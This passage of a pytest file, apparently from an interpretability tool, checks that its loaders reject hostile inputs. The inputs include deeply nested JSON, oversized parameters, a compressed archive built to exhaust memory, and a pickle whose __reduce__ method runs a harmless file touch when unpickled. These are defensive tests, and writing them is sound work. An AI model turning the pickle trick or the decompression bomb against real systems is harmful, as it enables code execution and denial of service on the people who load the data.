    assert re.search(r"octaves is 1000000000", left_out(folder, document, caplog))


def test_a_strip_of_a_billion_stimuli_is_not_unrolled(folder: Path, caplog: pytest.LogCaptureFixture) -> None:
    document = complete_document()
    document["pictures"][0]["n_stimuli"] = 10**9
    assert re.search(r"n_stimuli is", left_out(folder, document, caplog))


@pytest.mark.parametrize(("key", "value"), [("receptive_field_px", [10**6, 11]), ("stride_px", [9973, 9967])])
def test_a_patch_of_a_million_pixels_is_refused(folder: Path, key: str, value: list[int]) -> None:
    geometry = {
        "layer": "conv1", "n_channels": 4, "stride_px": [1, 1], "receptive_field_px": [11, 11], "centre_px": [5, 5],
        "is_global": False, "largest_px": None,
    }  # fmt: skip
    write_run(folder, geometry=[geometry | {key: value}])
    with pytest.raises(EquiscopeError, match=f"{key} is"):
        load_run(folder)


def test_a_sheet_that_is_not_there_gives_no_picture(folder: Path) -> None:
    document = site_document(folder)
    for unit in document["units"]:
        if unit["pictures"]:
            unit["pictures"]["strongest"] = [10**9, 0]
    save_run(folder, document)


def test_json_that_is_nested_without_end_is_one_sentence(folder: Path) -> None:
    write_run(folder)
    (folder / "units.json").write_text("[" * 200_000)
    with pytest.raises(EquiscopeError, match="cannot be read as JSON"):
        load_run(folder)


@pytest.fixture
def stored(tmp_path: Path) -> tuple[Path, dict[str, Any]]:
    """An array of responses as a survey stores it, and its description."""
    place = tmp_path / "conv1.zarr"
    open_array(place)
    return place, json.loads((place / "zarr.json").read_text())


def open_array(place: Path) -> Any:
    zeros = np.zeros(3, np.int64)
    bank = Bank("conv1", zeros, zeros, np.zeros((3, 2), np.int64), zeros)
    return open_responses(place, bank, CyclicGroup(4), 5)


@pytest.mark.parametrize("codec", ["pickle", "numcodecs.pickle"])
def test_an_array_of_responses_unpickles_nothing(
    tmp_path: Path, stored: tuple[Path, dict[str, Any]], codec: str
) -> None:
    trace = tmp_path / "trace"

    class Trap:
        def __reduce__(self) -> Any:
            return Path.touch, (trace,)

    place, description = stored
    earlier = {
        "zarr_format": 2, "shape": [3, 4, 5], "chunks": [64, 4, 5], "dtype": "|O", "compressor": None,
        "fill_value": None, "order": "C", "filters": [{"id": "pickle"}],
    }  # fmt: skip
    description["codecs"].append({"name": codec})
    (place / "zarr.json").write_text(json.dumps(description))
    (place / ".zarray").write_text(json.dumps(earlier))
    (place / "c" / "0" / "0").mkdir(parents=True)
    for chunk in (place / "0.0.0", place / "c" / "0" / "0" / "0"):
        chunk.write_bytes(pickle.dumps(Trap()))
    # It is not what a survey stores, so it is begun again.
    assert np.isnan(open_array(place).array[:]).all()
    assert not trace.exists()


@pytest.mark.parametrize(
    "change",
    [
        {"chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [10**9, 4, 5]}}},
        {
            "codecs": [
                {"name": "bytes", "configuration": {"endian": "little"}},
                {"name": "zstd", "configuration": {}},
            ]
        },
        {"data_type": "float64"},
    ],
    ids=["chunks", "compressed", "type"],
)
def test_an_array_of_responses_that_no_survey_stored_is_begun_again(
    stored: tuple[Path, dict[str, Any]], change: dict[str, Any]
) -> None:
    place, description = stored
    assert np.isnan(open_array(place).array[:]).all()
    (place / "zarr.json").write_text(json.dumps(description | change))
    assert np.isnan(open_array(place).array[:]).all()
    assert json.loads((place / "zarr.json").read_text()) == description


READERS = {
    "examples.npz": lambda folder: load_examples(folder / "examples.npz"),
    "featurevis/conv1.npz": load_visualisations,
    "circuits/a+b.units.npz": lambda folder: load_neighbours(folder, "a", "b"),
    "circuits/across.npz": lambda folder: StoredWeights(folder, Circuits((), (), (), (), (), (), ())),
}


@pytest.mark.parametrize("place", READERS)
def test_an_archive_that_would_fill_the_memory_is_not_unpacked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, place: str
) -> None:
    (tmp_path / place).parent.mkdir(exist_ok=True)
    np.savez_compressed(tmp_path / place, ids=np.zeros(4_000_000, np.uint8))
    monkeypatch.setattr("equiscope.foundations.received._SMALL_BYTES", 1_000_000)
    with pytest.raises(EquiscopeError, match="bytes and unpacks into"):
        READERS[place](tmp_path)
